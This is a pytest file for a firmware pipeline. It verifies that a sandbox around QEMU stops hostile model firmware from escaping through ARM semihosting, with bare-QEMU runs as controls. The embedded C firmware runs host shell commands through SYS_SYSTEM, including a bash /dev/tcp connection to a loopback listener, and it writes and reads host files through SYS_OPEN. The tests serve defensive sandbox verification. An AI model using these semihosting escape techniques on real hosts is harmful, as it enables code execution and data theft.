"""A hostile model's firmware, run the way verify and bench run firmware (firmware.emulate ->
qemu.run), cannot reach the host through semihosting: SYS_SYSTEM (0x12) starts no shell and
writes nothing, SYS_OPEN (0x01) neither creates nor reads files outside QEMU's temp dir. The same
image run by a bare QEMU does all of it: the sandbox is what stops it."""

import subprocess
import uuid
from pathlib import Path

import numpy as np
import pytest

from tests.firmware.test_faults import HEADER

TARGET = "cortex-m4"

# model_invoke as a hostile model's firmware would run it. out[k] = 1 where attack k worked.
MODEL_C = r"""#include <stdint.h>
#include <string.h>
#include "model.h"
#include "semihost.h"

static int32_t sys_system(const char *cmd) {            /* SYS_SYSTEM: host system(cmd) */
    const uint32_t args[2] = {(uint32_t)cmd, (uint32_t)strlen(cmd)};
    register uint32_t r0 __asm("r0") = 0x12;
    register const void *r1 __asm("r1") = args;
    __asm volatile("bkpt 0xab" : "+r"(r0) : "r"(r1) : "memory");
    return (int32_t)r0;
}

int model_invoke(const int8_t *in, int8_t *out) {
    (void)in;
    out[0] = sys_system("touch @TOUCHED@") == 0;
    out[1] = sys_system("sh -c 'echo x > @ECHOED@'") == 0;
    const int32_t w = ed_sh_open("@OPENED@", 4);          /* 4: "w" */
    out[2] = w >= 0 && ed_sh_write(w, "pwned\n", 6) == 0;
    if (w >= 0) ed_sh_close(w);
    const int32_t r = ed_sh_open("@SECRET@", 1);          /* 1: "rb" */
    char buf[6] = {0};
    out[3] = r >= 0 && ed_sh_read(r, buf, 6) == 0 && memcmp(buf, "secret", 6) == 0;
    if (r >= 0) ed_sh_close(r);
    return 0;
}
"""


@pytest.fixture
def attack(tmp_path):
    """Sources of the hostile model and the host paths it aims at (all outside QEMU's dir)."""
    from pipeline.compiler.sources import Sources
    paths = {"TOUCHED": f"/tmp/edgedistill-touched-{uuid.uuid4().hex}", "ECHOED": tmp_path / "echoed",
             "OPENED": tmp_path / "opened", "SECRET": tmp_path / "secret"}
    paths["SECRET"].write_text("secret")
    c = MODEL_C
    for k, v in paths.items():
        c = c.replace(f"@{k}@", str(v))
    src = Sources({"model.h": HEADER, "model.c": c}, "", 16, 0, "", "int8", ((1, 4),), ((1, 4),),
                  ("CUSTOM",))
    yield src, [Path(paths[k]) for k in ("TOUCHED", "ECHOED", "OPENED")]
    Path(paths["TOUCHED"]).unlink(missing_ok=True)        # only the bare QEMU run makes it


def exists(paths):
    return [p.exists() for p in paths]


def test_semihosting_attacks_fail_under_emulate(attack):
    from pipeline import targets
    from pipeline.firmware import emulate
    src, written = attack
    out, res, _, _ = emulate(src, targets.load(TARGET), np.zeros((1, 4), np.int8), timeout=30)
    assert out.tolist() == [[0, 0, 0, 0]], res.stderr
    assert exists(written) == [False, False, False]
    assert len(res.counts) == 1 and res.counts[0] > 0       # the counting plugin still reports


def test_without_the_shell_masks_the_filesystem_still_holds(attack, monkeypatch):
    """Second line of defence off: system() starts a shell (its touch lands in the sandbox's
    own /tmp) but the host sees nothing."""
    from pipeline import sandbox, targets
    from pipeline.firmware import emulate
    monkeypatch.setattr(sandbox, "_SHELLS", ())
    src, written = attack
    out, res, _, _ = emulate(src, targets.load(TARGET), np.zeros((1, 4), np.int8), timeout=30)
    assert out[0, 0] == 1, "touch should run once a shell is there"
    assert out[0, 1:].tolist() == [0, 0, 0], res.stderr      # no host path to write or read
    assert exists(written) == [False, False, False]


def _bare_qemu(src, fw: Path, run: Path) -> None:
    """Build `src` for TARGET into `fw` and run it under QEMU without the sandbox, in `run`: the
    controls below show what the sandbox stops."""
    from pipeline import targets
    from pipeline.firmware import boards, build
    target = targets.load(TARGET)
    info = build.build(src, target, fw)
    run.mkdir()
    (run / "in.bin").write_bytes(bytes(4))
    r = subprocess.run(["qemu-system-arm", "-M", boards.for_target(target).machine, "-display", "none",
                        "-nodefaults", "-no-reboot", "-kernel", str(info.elf), "-semihosting-config",
                        "enable=on,target=native", "-serial", "null"],
                       cwd=run, capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r.stderr


def test_bare_qemu_runs_the_same_attacks(attack, tmp_path):
    """The control: the same image under QEMU without the sandbox writes all three files."""
    src, written = attack
    run = tmp_path / "run"
    _bare_qemu(src, tmp_path / "fw", run)
    assert exists(written) == [True, True, True]
    assert list((run / "out.bin").read_bytes()) == [1, 1, 1, 1]


NET_C = MODEL_C.split("int model_invoke")[0] + r"""
int model_invoke(const int8_t *in, int8_t *out) {
    (void)in;
    out[0] = sys_system("bash -c 'echo pwned > /dev/tcp/127.0.0.1/@PORT@'") == 0;
    out[1] = out[2] = out[3] = 0;
    return 0;
}
"""


@pytest.fixture
def listener():
    """A TCP listener on the loopback: (port, list of connections it accepted)."""
    import socket
    import threading
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(4)
    s.settimeout(0.2)
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                seen.append(s.accept()[0].recv(16))
            except OSError:
                pass
    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield s.getsockname()[1], seen
    stop.set()
    t.join(2)
    s.close()


def _net_sources(port):
    from pipeline.compiler.sources import Sources
    return Sources({"model.h": HEADER, "model.c": NET_C.replace("@PORT@", str(port))}, "", 16, 0, "",
                   "int8", ((1, 4),), ((1, 4),), ("CUSTOM",))


def test_firmware_reaches_no_network_even_with_a_shell(listener, monkeypatch):
    """SYS_SYSTEM with bash's /dev/tcp, the shell masks off so that bash does start: the
    sandbox has no network, the listener on the host's loopback sees nothing."""
    from pipeline import sandbox, targets
    from pipeline.firmware import emulate
    port, seen = listener
    monkeypatch.setattr(sandbox, "_SHELLS", ())
    out, res, _, _ = emulate(_net_sources(port), targets.load(TARGET), np.zeros((1, 4), np.int8), timeout=30)
    assert out.tolist() == [[0, 0, 0, 0]], res.stderr
    assert seen == []


def test_bare_qemu_reaches_the_network(listener, tmp_path):
    """The control: the same image under a bare QEMU connects."""
    import time
    port, seen = listener
    run = tmp_path / "run"
    _bare_qemu(_net_sources(port), tmp_path / "fw", run)
    deadline = time.monotonic() + 3
    while not seen and time.monotonic() < deadline:
        time.sleep(0.05)
    assert seen and seen[0].startswith(b"pwned")
    assert list((run / "out.bin").read_bytes()) == [1, 0, 0, 0]
